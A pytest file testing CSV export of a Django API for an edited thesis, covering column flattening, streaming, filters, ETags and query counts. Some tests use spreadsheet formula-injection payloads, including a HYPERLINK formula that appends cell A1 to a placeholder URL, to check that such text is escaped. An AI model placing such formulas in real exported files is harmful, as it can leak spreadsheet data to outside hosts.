"""CSV of every API list (api/tables.py): flattening, all rows streamed, the same filters, ETags, queries."""

import csv
import io
import math

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from api import tables
from api.serializers import (
    PassageHistorySerializer,
    PassageSerializer,
    SuspectSerializer,
    ThesisSerializer,
    TimelineEventSerializer,
)
from thesis.editorial import editing
from thesis.models import Passage

pytestmark = pytest.mark.usefixtures("shared_seed")

# --- the rules, without a database ----------------------------------------------------------------


def test_nested_objects_become_dotted_columns_and_lists_one_cell():
    record = {
        "id": 3,
        "span": {"start": 0, "end": 7},
        "source_document": None,
        "roles": ["historiography", "quoted"],
        "authors": [{"family": "Тоқаев", "given": "Қ."}],
        "is_complete": False,
        "note": None,
    }
    assert tables.flatten(record) == {
        "id": "3",
        "span.start": "0",
        "span.end": "7",
        "source_document": "",
        "roles": "historiography; quoted",
        "authors": '[{"family": "Тоқаев", "given": "Қ."}]',
        "is_complete": "false",
        "note": "",
    }
    assert tables.cell([]) == "" and tables.cell(True) == "true" and tables.cell(1.5) == "1.5"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_a_text_a_spreadsheet_would_run_as_a_formula_is_quoted_and_recovered(start):
    value = f'{start}HYPERLINK("http://example.org","x")'
    assert tables.cell(value) == "'" + value
    assert tables.cell([value, "b"]) == f"'{value}; b"
    assert tables.recovered(tables.cell(value)) == value


def test_numbers_and_other_texts_are_left_as_they_are():
    assert tables.cell(-44) == "-44" and tables.cell(-1.5) == "-1.5" and tables.cell(False) == "false"
    assert tables.cell("Қазақстан = ел") == "Қазақстан = ел" and tables.cell(["a", "=b"]) == "a; =b"
    assert tables.recovered("Қазақстан") == "Қазақстан"


def test_columns_come_from_the_serializer_even_for_an_empty_list():
    assert tables.columns(PassageSerializer()) == [
        "id", "thesis", "section", "order", "status", "version", "changed_at", "span.start", "span.end", "text",
    ]  # fmt: skip
    assert "source_document.sha256" in tables.columns(ThesisSerializer())
    event_columns = tables.columns(TimelineEventSerializer())
    assert event_columns[2:8] == ["start.year", "start.month", "start.day", "end.year", "end.month", "end.day"]
    assert b"".join(tables.stream(["a", "b"], [])) == b"a,b\r\n"


def test_a_method_field_declaring_an_object_is_columns_of_its_members_and_a_list_of_objects_one():
    assert tables.columns(SuspectSerializer()) == [
        "kind", "certain", "passage.id", "passage.order", "passage.version", "start", "end", "found", "suggestions",
        "note",
    ]  # fmt: skip
    assert tables.columns(PassageHistorySerializer()) == [
        "id", "date", "user", "reason", "change", "version", "status", "diff",
    ]  # fmt: skip


def test_the_stream_quotes_as_csv_does_and_sends_a_chunk_at_a_time():
    chunks = [[{"a": 'say "hi", then', "b": "line\nbreak"}], [], [{"a": "Қазақ", "b": None}]]
    pieces = list(tables.stream(["a", "b"], chunks))
    assert len(pieces) == 3  # the header, then one piece for each chunk that has rows
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8"))))
    assert rows == [["a", "b"], ['say "hi", then', "line\nbreak"], ["Қазақ", ""]]
    assert [len(chunk) for chunk in tables.chunked(range(7), 3)] == [3, 3, 1]


# --- the API ----------------------------------------------------------------------------------------


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


def every_page(client, url, params) -> list[dict]:
    """The rows of every page of a JSON list, following `next` to the last."""
    body = client.get(url, params).json()
    rows = body["results"]
    while body["next"]:
        body = client.get(body["next"]).json()
        rows += body["results"]
    return rows


def assert_csv_is_the_json_list(client, url, params, serializer) -> list[dict]:
    """The CSV of `url` has the serializer's columns and, row for row, the cells of every page of its
    JSON list flattened; returns its rows."""
    response = client.get(url, {**params, "format": "csv"})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    header, *lines = csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8")))
    assert header == tables.columns(serializer)
    rows = [dict(zip(header, line, strict=True)) for line in lines]
    assert rows == [tables.flatten(record) for record in every_page(client, url, {**params, "page_size": 2})]
    return rows


LISTS = [
    ("/api/theses/", {}),
    ("/api/sections/", {"kind": "subsection"}),
    ("/api/passages/", {"status": "unreviewed", "cites": 3}),
    ("/api/sources/", {"cited": "true", "number": 9}),
    ("/api/authors/", {"group": "domestic"}),
    ("/api/timeline/", {"year_from": 1900, "ordering": "-start"}),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("url", "params"), LISTS)
def test_each_list_as_csv_has_the_rows_the_filtered_json_list_has(client, seed_thesis, url, params):
    params = {**params, "thesis": seed_thesis.pk} if url != "/api/theses/" else params
    pages = client.get(url, {**params, "page_size": 200}).json()
    assert pages["count"] > 0  # each filter keeps some rows, and leaves out others
    assert pages["count"] < client.get(url, {"page_size": 200}).json()["count"] or url == "/api/theses/"
    rows = read_csv(client.get(url, {**params, "format": "csv"}))
    assert [int(row["id"]) for row in rows] == [record["id"] for record in pages["results"]]
    first, record = rows[0], pages["results"][0]
    for name, value in record.items():
        if isinstance(value, str | int) and not isinstance(value, bool):
            assert tables.recovered(first[name]) == str(value), name


@pytest.mark.django_db
def test_a_text_starting_as_a_formula_is_quoted_in_the_csv_and_recovered_as_json_has_it(client, seed_thesis):
    formula = '=HYPERLINK("http://example.org/?"&A1,"Қазақстан")'
    passage = Passage.objects.order_by("pk").first()
    passage.text = formula
    editing.save_checked(passage, expected_version=passage.version, user=None, reason="Test")
    json_text = client.get(f"/api/passages/{passage.pk}/").json()["text"]
    rows = read_csv(client.get("/api/passages/", {"format": "csv", "thesis": seed_thesis.pk}))
    cell = next(row["text"] for row in rows if row["id"] == str(passage.pk))
    assert json_text == formula and cell == "'" + formula and tables.recovered(cell) == json_text


@pytest.mark.django_db
def test_a_csv_is_every_row_not_a_page(client, seed_thesis):
    rows = read_csv(client.get("/api/passages/", {"format": "csv", "page_size": 2, "page": 3}))
    assert [int(row["order"]) for row in rows] == list(range(11))


@pytest.mark.django_db
def test_csv_is_named_for_its_list_and_thesis_and_asked_for_by_accept_too(client, seed_thesis):
    response = client.get("/api/timeline/", {"thesis": seed_thesis.pk, "format": "csv"})
    assert response["Content-Disposition"] == f'attachment; filename="timeline-thesis-{seed_thesis.pk}.csv"'
    # The theses are not filtered by thesis: the parameter is ignored there, in the name too.
    theses = client.get("/api/theses/", {"thesis": "abc", "format": "csv"})
    assert theses["Content-Disposition"] == 'attachment; filename="theses.csv"'
    by_accept = client.get("/api/authors/", HTTP_ACCEPT="text/csv")
    assert by_accept["Content-Disposition"] == 'attachment; filename="authors.csv"'
    assert len(read_csv(by_accept)) == seed_thesis.authors.count()
    assert client.get("/api/authors/")["Content-Type"] == "application/json"


@pytest.mark.django_db
def test_kazakh_text_follows_script(client, seed_thesis):
    rows = read_csv(client.get("/api/sections/", {"format": "csv", "script": "latn", "kind": "introduction"}))
    assert rows[0]["title"] == "KIRISPE"


@pytest.mark.django_db
def test_bad_parameters_and_formats_are_json_errors_naming_them(client, seed_thesis):
    bad_filter = client.get("/api/passages/", {"format": "csv", "thesis": "one"})
    assert bad_filter.status_code == 400 and list(bad_filter.json()) == ["thesis"]
    assert bad_filter["Content-Type"] == "application/json"
    bad_size = client.get("/api/passages/", {"format": "csv", "page_size": 0})
    assert bad_size.status_code == 400 and list(bad_size.json()) == ["page_size"]
    assert client.get("/api/passages/", {"format": "csv", "page": "x"}).status_code == 404
    assert client.get("/api/passages/", {"format": "xlsx"}).status_code == 404
    # A record is not a table: only lists answer in CSV.
    detail = client.get(f"/api/passages/{seed_thesis.passages.first().pk}/", {"format": "csv"})
    assert detail.status_code == 404 and detail["Content-Type"] == "application/json"


@pytest.mark.django_db
def test_a_search_lists_its_first_matches_as_the_json_list_does(client, seed_thesis):
    rows = read_csv(client.get("/api/passages/", {"format": "csv", "q": "дипломатия"}))
    listed = client.get("/api/passages/", {"q": "дипломатия", "page_size": 200}).json()["results"]
    assert [int(row["id"]) for row in rows] == [record["id"] for record in listed] and rows


@pytest.mark.django_db
def test_etags_give_304s_until_the_data_changes(client, seed_thesis):
    url, params = "/api/passages/", {"format": "csv", "thesis": seed_thesis.pk}
    tag = client.get(url, params)["ETag"]
    assert client.get(url, params, HTTP_IF_NONE_MATCH=tag).status_code == 304
    assert client.get(url, {**params, "script": "latn"})["ETag"] != tag
    passage = seed_thesis.passages.get(order=0)
    editing.save_checked(passage, expected_version=passage.version, user=None, reason="Test")
    changed = client.get(url, params, HTTP_IF_NONE_MATCH=tag)
    assert changed.status_code == 200 and changed["ETag"] != tag


@pytest.mark.django_db
def test_head_sends_the_headers_and_reads_no_rows(client, seed_thesis):
    with CaptureQueriesContext(connection) as queries:
        response = client.head("/api/passages/", {"format": "csv"})
        assert b"".join(response.streaming_content) == b""
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert not any("thesis_passage" in query["sql"] for query in queries.captured_queries)


def csv_queries(client, url, params) -> tuple[int, int]:
    with CaptureQueriesContext(connection) as queries:
        rows = read_csv(client.get(url, params))
    return len(queries), len(rows)


@pytest.mark.django_db
@pytest.mark.parametrize(("url", "params"), LISTS)
def test_queries_grow_with_chunks_not_rows(client, seed_thesis, monkeypatch, url, params):
    whole, count = csv_queries(client, url, {"format": "csv"})
    assert whole <= 6
    monkeypatch.setattr(tables, "CHUNK_ROWS", 2)
    chunked, _count = csv_queries(client, url, {"format": "csv"})
    # The list is one query read a chunk at a time; what a chunk adds is its related rows: an author's
    # spellings, an event's links to people and, when there are any, their names.
    fewest, most = {"/api/authors/": (1, 1), "/api/timeline/": (1, 2)}.get(url, (0, 0))
    more_chunks = math.ceil(count / 2) - 1
    assert more_chunks * fewest <= chunked - whole <= more_chunks * most


@pytest.mark.django_db
def test_every_passage_of_a_large_list_is_sent(client, seed_thesis, monkeypatch):
    monkeypatch.setattr(tables, "CHUNK_ROWS", 4)
    Passage.objects.bulk_create(
        Passage(thesis=seed_thesis, section=seed_thesis.sections.first(), order=100 + n, original_text="М",
                text=f"Мәтін {n}", span_start=0, span_end=0)
        for n in range(301)
    )  # fmt: skip
    rows = read_csv(client.get("/api/passages/", {"format": "csv"}))
    assert len(rows) == 312 and rows[-1]["text"] == "Мәтін 300"


def test_lists_and_the_lists_of_a_record_document_csv_and_records_do_not(client, db):
    schema = client.get("/api/schema/", HTTP_ACCEPT="application/json").json()
    for path in (
        "/api/theses/",
        "/api/sections/",
        "/api/passages/",
        "/api/sources/",
        "/api/authors/",
        "/api/timeline/",
        "/api/theses/{id}/suspects/",
        "/api/passages/{id}/history/",
    ):
        operation = schema["paths"][path]["get"]
        content = operation["responses"]["200"]["content"]
        assert content["text/csv; charset=utf-8"]["schema"]["type"] == "string"
        assert "text/csv; charset=utf-8" not in operation["responses"]["400"]["content"]
        formats = next(p for p in operation["parameters"] if p["name"] == "format")
        assert formats["schema"]["enum"] == ["csv", "json"]
        assert "bom" in {parameter["name"] for parameter in operation["parameters"]}
    for path in ("/api/passages/{id}/", "/api/timeline/timelinejs/", "/api/theses/{id}/sources.csl.json"):
        assert not any(
            media.startswith("text/csv") for media in schema["paths"][path]["get"]["responses"]["200"]["content"]
        )


def test_a_byte_order_mark_for_excel_is_given_when_asked_for_and_a_bad_value_is_refused(client, seed_thesis):
    plain = b"".join(client.get("/api/sources/", {"format": "csv"}).streaming_content)
    marked = b"".join(client.get("/api/sources/", {"format": "csv", "bom": "1"}).streaming_content)
    assert marked == tables.BYTE_ORDER_MARK + plain and not plain.startswith(tables.BYTE_ORDER_MARK)
    refused = client.get("/api/sources/", {"format": "csv", "bom": "yes"})
    assert refused.status_code == 400 and "bom" in refused.json()
    # The schema gives every list the parameter, whatever its format: JSON refuses a bad one too.
    refused_in_json = client.get("/api/sources/", {"bom": "-1"})
    assert refused_in_json.status_code == 400 and list(refused_in_json.json()) == ["bom"]
    assert client.get("/api/sources/", {"bom": "1"}).status_code == 200
    empty = b"".join(client.get("/api/sources/", {"format": "csv", "bom": ""}).streaming_content)
    assert empty == plain
    described = client.get("/api/schema/", {"format": "json"}).json()["paths"]["/api/sources/"]["get"]
    assert "bom" in {parameter["name"] for parameter in described["parameters"]}
